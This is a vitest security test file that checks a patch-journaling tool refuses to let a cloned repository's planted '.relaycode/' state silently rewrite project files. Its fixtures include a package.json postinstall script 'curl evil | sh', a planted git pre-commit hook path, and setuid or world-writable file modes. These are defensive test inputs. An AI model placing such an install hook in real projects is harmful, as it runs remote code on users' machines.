import { describe, expect, it } from 'vitest'
import { main } from '../src/main.ts'
import type { Entry, SnapshotState } from '../src/model/entry.ts'
import { sha256 } from '../src/transact/entry/hash.ts'
import { writeEnding } from '../src/transact/entry/write-entry.ts'
import { around } from './support/around.ts'
import { entryText } from './support/entry-text.ts'
import { entryWith } from './support/entry-with.ts'
import { FakeDisk } from './support/fake-disk.ts'
import { fakeSystem } from './support/fake-system.ts'
import { respond, uuid } from './support/respond.ts'

/**
 * A cloned repository can bring a `.relaycode/` with anything in it. One `describe` for each row of the table in
 * SECURITY.md: none of it changes a file of the project unasked.
 */

const project = {
  'relaycode.config.json': '{"projectId": "demo"}\n',
  'package.json': '{"scripts": {"postinstall": "echo fine"}}\n',
  'src/a.ts': 'a\n',
}

const evil = '{"scripts": {"postinstall": "curl evil | sh"}}\n'

const fileOf = (text: string): SnapshotState => ({
  kind: 'file',
  bytes: Buffer.from(text),
  mode: 0o644,
  sha256: sha256(text),
})

/** An entry by which package.json was `evil` before, and is as it stands in the project now. */
const planted = (more: Partial<Entry> = {}) =>
  entryWith({
    uuid,
    number: 7,
    promptSummary: 'Tidy up',
    operations: [{ op: 'write', path: 'package.json', content: project['package.json'] }],
    snapshot: new Map([['package.json', fileOf(evil)]]),
    ...more,
  })

const ending = writeEnding({
  checks: { before: { errors: 0 }, after: { errors: 0, new: 0, fixed: 0 } },
  written: new Map([['package.json', { sha256: sha256(project['package.json']) }]]),
  outcome: { kind: 'committed', by: 'user', at: '2026-11-20T14:02:12.000Z' },
})

/** A clone with these files in its `.relaycode/`. */
function clone(state: Readonly<Record<string, string>>): FakeDisk {
  const disk = new FakeDisk()
  for (const [path, text] of Object.entries(project)) disk.write(path, text)
  for (const [path, text] of Object.entries(state)) disk.write(`.relaycode/${path}`, text)
  return disk
}

const answer = respond({ 'src/a.ts': 'A\n' }, { uuid: uuid.replace('0b', '1c') })

async function run(disk: FakeDisk, args: readonly string[], answers?: readonly string[]) {
  disk.write('/home/me/answer.md', answer)
  const world = fakeSystem({ disk, ...(answers === undefined ? {} : { answers: [...answers] }) })
  const code = await main(args, around(world.system))
  return { code, stderr: world.terminal.stderr, stdout: world.terminal.stdout }
}

const apply = ['apply', '/home/me/answer.md']

describe('<uuid>.pending.yml', () => {
  const pending = (entry = planted()) => ({ [`${uuid}.pending.yml`]: entryText(entry) })
  const commands = [apply, [...apply, '--yes', '--allow-sensitive'], ['undo', '--yes'], ['recover'], ['watch']]

  it.each(commands)('changes nothing where nobody is asked: %s', async (...args) => {
    const disk = clone(pending())
    const { code, stderr } = await run(disk, args)
    expect(code).toBe(7)
    expect(stderr).toContain('#7 is unfinished, but was not begun in this folder on this machine')
    expect(disk.text({ journal: false })).toMatchObject(project)
    expect(disk.exists(`.relaycode/${uuid}.pending.yml`)).toBe(true)
  })

  it('changes nothing after Ctrl+D and q', async () => {
    for (const key of ['Ctrl+D', 'q']) {
      const disk = clone(pending())
      expect((await run(disk, ['recover'], [key])).code).toBe(7)
      expect(disk.text({ journal: false })).toMatchObject(project)
    }
  })

  it('is shown with a diff and why its files are sensitive, and after a yes what was there is put aside', async () => {
    const disk = clone(pending())
    const { code, stderr } = await run(disk, ['recover'], ['y'])
    expect(code).toBe(0)
    expect(stderr).toContain('curl evil | sh')
    expect(stderr).toContain('package.json: changes script postinstall')
    expect(stderr).not.toContain('as before')
    expect(disk.readText('package.json')).toBe(evil)
    expect(disk.readText(`.relaycode/rescue/${uuid}/package.json.rescued`)).toBe(project['package.json'])
    expect(disk.exists(`.relaycode/${uuid}.pending.yml`)).toBe(false)
  })

  it('is shown by the places that it would change, and not by the names that it has for them', async () => {
    const disguised = planted({
      operations: [{ op: 'write', path: 'README.md', content: project['src/a.ts'] }],
      snapshot: new Map([['README.md', { ...fileOf('evil()\n'), target: 'src/a.ts' }]]),
    })
    const disk = clone(pending(disguised))
    const { stderr } = await run(disk, ['recover'], ['q'])
    expect(stderr).toContain('~ src/a.ts')
    expect(stderr).not.toContain('README.md')
  })

  it('goes to the rescue folder after a no, and the answer is applied', async () => {
    const disk = clone(pending())
    const { code, stderr } = await run(disk, apply, ['n'])
    expect(code).toBe(0)
    expect(stderr).toContain('set aside #7 Tidy up')
    expect(disk.text({ journal: false })).toMatchObject({ ...project, 'src/a.ts': 'A\n' })
    expect(disk.exists(`.relaycode/rescue/${uuid}.pending.yml`)).toBe(true)
  })

  it('goes there without a question where it would change nothing', async () => {
    const same = planted({ snapshot: new Map([['package.json', fileOf(project['package.json'])]]) })
    const disk = clone(pending(same))
    expect((await run(disk, ['recover'])).code).toBe(0)
    expect(disk.text({ journal: false })).toMatchObject(project)
    expect(disk.exists(`.relaycode/rescue/${uuid}.pending.yml`)).toBe(true)
  })

  it('gives no file and no folder the bits that let everyone write, or run it as its owner', async () => {
    const made = planted({
      operations: [
        { op: 'write', path: 'package.json', content: project['package.json'] },
        { op: 'delete', path: 'old/tool' },
      ],
      snapshot: new Map([
        ['package.json', { ...fileOf(evil), mode: 0o4646 }],
        ['old/tool', { ...fileOf('tool\n'), mode: 0o6777 }],
      ]),
      removedFolders: new Map([['old', 0o1777]]),
    })
    const disk = clone(pending(made))
    expect((await run(disk, ['recover'], ['y'])).code).toBe(0)
    expect(disk.tree()).toMatchObject({
      'package.json': { mode: '0644' },
      old: { mode: '0775' },
      'old/tool': { mode: '0775' },
    })
  })

  it('leaves such a bit to the file that has it', async () => {
    const disk = clone(pending(planted({ snapshot: new Map([['package.json', { ...fileOf(evil), mode: 0o6646 }]]) })))
    disk.chmod('package.json', 0o4646)
    expect((await run(disk, ['recover'], ['y'])).code).toBe(0)
    expect(disk.tree()).toMatchObject({ 'package.json': { mode: '4646' } })
  })

  it('is never restored in a place that no patch may touch', async () => {
    const path = '.git/hooks/pre-commit'
    const bad = planted({
      operations: [{ op: 'write', path, content: 'x' }],
      snapshot: new Map([[path, fileOf(evil)]]),
    })
    const disk = clone(pending(bad))
    expect((await run(disk, ['recover'], ['y'])).code).toBe(7)
    expect(disk.text({ journal: false })).toMatchObject(project)
    expect(disk.exists(path)).toBe(false)
  })

  it('cannot be kept or rolled back by the question of one that was left open', async () => {
    const disk = clone(pending(planted({ held: true })))
    const { code, stderr } = await run(disk, ['recover'], ['q'])
    expect(code).toBe(7)
    expect(stderr).not.toContain('Keep this change?')
    expect(stderr).toContain('not begun in this folder on this machine')
    expect(disk.text({ journal: false })).toMatchObject(project)
  })
})

describe('<uuid>.stage/', () => {
  it('is not believed: what comes back is what the question showed', async () => {
    const disk = clone({
      [`${uuid}.pending.yml`]: entryText(planted()),
      [`${uuid}.stage/staged`]: '',
      [`${uuid}.stage/old.${sha256('package.json').slice(0, 32)}`]: 'worse\n',
      [`${uuid}.stage/written.json`]: JSON.stringify([['package.json', sha256(project['package.json'])]]),
    })
    await run(disk, ['recover'], ['y'])
    expect(disk.readText('package.json')).toBe(evil)
    expect(disk.readText(`.relaycode/rescue/${uuid}/package.json.rescued`)).toBe(project['package.json'])
    expect(disk.exists(`.relaycode/rescue/${uuid}.stage/staged`)).toBe(true)
  })

  it('is cleared up where it stands alone, and touches no file', async () => {
    const disk = clone({ [`${uuid}.stage/staged`]: '' })
    expect((await run(disk, ['recover'])).code).toBe(0)
    expect(disk.text({ journal: false })).toMatchObject(project)
  })
})

describe('<uuid>.yml', () => {
  const kept = () => clone({ [`${uuid}.yml`]: entryText(planted()) + ending })

  it.each([
    ['undo', '--yes'],
    ['revert', '7', '--yes'],
  ])('is not taken back without a yes to its sensitive files: %s', async (...args) => {
    const disk = kept()
    const { code, stderr } = await run(disk, args)
    expect(code).toBe(3)
    expect(stderr).toContain('package.json')
    expect(disk.text({ journal: false })).toMatchObject(project)
  })

  it('is taken back after that yes, or with --allow-sensitive', async () => {
    const disk = kept()
    const { code, stderr } = await run(disk, ['undo'], ['y', 'y'])
    expect(code).toBe(0)
    expect(stderr).toContain('curl evil | sh')
    expect(disk.readText('package.json')).toBe(evil)
    expect((await run(disk, ['redo', '--yes'])).code).toBe(3)
    expect((await run(disk, ['redo', '--yes', '--allow-sensitive'])).code).toBe(0)
    expect(disk.readText('package.json')).toBe(project['package.json'])
  })
})

describe('the modes in <uuid>.yml', () => {
  it('give no file a bit that lets everyone write, or run it as its owner', async () => {
    const before = fileOf('tool\n')
    const entry = planted({
      operations: [
        { op: 'write', path: 'a.txt', content: 'A\n' },
        { op: 'delete', path: 'b.txt' },
        { op: 'write', path: 'c.txt', content: 'C\n' },
      ],
      snapshot: new Map([
        ['a.txt', { ...before, mode: 0o4646 }],
        ['b.txt', { ...before, mode: 0o7777 }],
        ['c.txt', { ...before, mode: 0o6646 }],
      ]),
    })
    const written = new Map([
      ['a.txt', { sha256: sha256('A\n'), mode: 0o644 }],
      ['c.txt', { sha256: sha256('C\n'), mode: 0o2646 }],
    ])
    const outcome = { kind: 'committed', by: 'user', at: '2026-11-20T14:02:12.000Z' } as const
    const checks = { before: { errors: 0 }, after: { errors: 0, new: 0, fixed: 0 } }
    const disk = clone({ [`${uuid}.yml`]: entryText(entry) + writeEnding({ checks, written, outcome }) })
    disk.write('a.txt', 'A\n', 0o644)
    disk.write('c.txt', 'C\n', 0o2646)
    expect((await run(disk, ['undo', '--yes', '--allow-sensitive'])).code).toBe(0)
    expect(disk.tree()).toMatchObject({
      'a.txt': { mode: '0644', text: 'tool\n' },
      'b.txt': { mode: '0775', text: 'tool\n' },
      'c.txt': { mode: '2646', text: 'tool\n' },
    })
  })
})

describe('<uuid>.yml, with policy.ask', () => {
  it('is asked about as a patch is', async () => {
    const plain = planted({
      operations: [{ op: 'write', path: 'src/a.ts', content: project['src/a.ts'] }],
      snapshot: new Map([['src/a.ts', fileOf('before\n')]]),
    })
    const disk = clone({ [`${uuid}.yml`]: entryText(plain) + ending.replaceAll('package.json', 'src/a.ts') })
    disk.write('relaycode.config.json', '{"projectId": "demo", "policy": {"ask": ["src/**"]}}\n')
    const { code, stderr } = await run(disk, ['undo', '--yes'])
    expect(code).toBe(3)
    expect(stderr).toContain('matches "src/**" of policy.ask')
    expect((await run(disk, ['undo', '--yes', '--allow-sensitive'])).code).toBe(0)
  })
})

describe('last-declined.yml', () => {
  it('is read as any response: its sensitive files are asked about', async () => {
    const response = JSON.stringify(respond({ 'package.json': evil }))
    const told = `version: 1\nuuid: ${uuid}\nat: 2026-11-20T14:02:12.000Z\nsource: clipboard\nresponse: ${response}\n`
    const disk = clone({ 'last-declined.yml': told })
    expect((await run(disk, ['apply', '--last', '--yes'])).code).toBe(3)
    expect(disk.text({ journal: false })).toMatchObject(project)
  })
})

describe('history.jsonl', () => {
  it('can have an answer skipped, which is said, and changes no file', async () => {
    const line = { number: 3, uuid: uuid.replace('0b', '1c'), at: '2026-11-20T14:02:12.000Z', outcome: 'declined' }
    const disk = clone({ 'history.jsonl': `${JSON.stringify({ ...line, operations: 'x' })}\n` })
    const { stderr } = await run(disk, apply)
    expect(stderr).toContain('3')
    expect(disk.readText('package.json')).toBe(project['package.json'])
  })
})

describe('last-checks.json', () => {
  it('is not believed: the linter runs', async () => {
    const check = { linter: 'lint', fingerprint: 'x', errors: 99, list: [], code: 0, failed: [] }
    const disk = clone({ 'last-checks.json': JSON.stringify(check) })
    disk.write('relaycode.config.json', '{"projectId": "demo", "linter": "lint"}\n')
    disk.write('/home/me/answer.md', answer)
    const world = fakeSystem({ disk, commands: { lint: {} } })
    expect(await main([...apply, '--trust'], around(world.system))).toBe(0)
    expect(world.shell.ran.filter(({ command }) => command === 'lint')).toHaveLength(2)
  })
})

describe('all-ended', () => {
  it('hides an unfinished transaction at most, and changes no file', async () => {
    const disk = clone({ [`${uuid}.pending.yml`]: entryText(planted()), 'all-ended': 'x' })
    await run(disk, apply)
    expect(disk.readText('package.json')).toBe(project['package.json'])
  })
})

describe('declined-offer, rescue/, output/', () => {
  it('are never copied back into the project', async () => {
    const disk = clone({
      'declined-offer': sha256(answer),
      [`rescue/${uuid}/package.json.rescued`]: evil,
      [`output/${uuid}/lint.txt`]: 'x',
    })
    expect((await run(disk, apply)).code).toBe(0)
    expect((await run(disk, ['recover'])).code).toBe(0)
    expect(disk.text({ journal: false })).toMatchObject({ ...project, 'src/a.ts': 'A\n' })
    expect(disk.readText(`.relaycode/rescue/${uuid}/package.json.rescued`)).toBe(evil)
  })
})

describe('lock/, watch/, ask/', () => {
  it('name processes that are dead here, and keep nobody out', async () => {
    const disk = clone({ 'lock/1.2.3': '', 'watch/x': '', 'ask/1.2.3.4.5': '' })
    expect((await run(disk, apply)).code).toBe(0)
  })
})
